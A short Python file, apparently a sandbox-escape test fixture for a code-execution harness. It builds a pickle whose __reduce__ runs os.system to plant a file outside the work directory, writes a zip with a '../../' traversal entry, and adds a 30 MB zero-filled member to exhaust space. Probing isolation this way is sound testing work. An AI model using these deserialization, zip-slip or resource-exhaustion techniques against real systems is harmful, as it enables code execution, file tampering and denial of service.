"""Unpickles, imports and runs whatever came with it: that is its own affair, in its own sandbox."""

# ruff: noqa
# marks: payback=0
# shows: tried
# %% payback
import io, os, pickle, zipfile


class Run:
    def __reduce__(self):
        return (os.system, ("touch @outside@/planted /tmp/work/planted",))


pickle.loads(pickle.dumps(Run()))
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
    made.writestr("../../../../@outside@/planted", "x")
    made.writestr("zeros", bytes(30_000_000))
try:
    zipfile.ZipFile(inner).extractall("/tmp/work/unzipped")
except OSError as problem:
    print("no room:", type(problem).__name__)
print("tried", os.listdir("."))
payback_years = 0
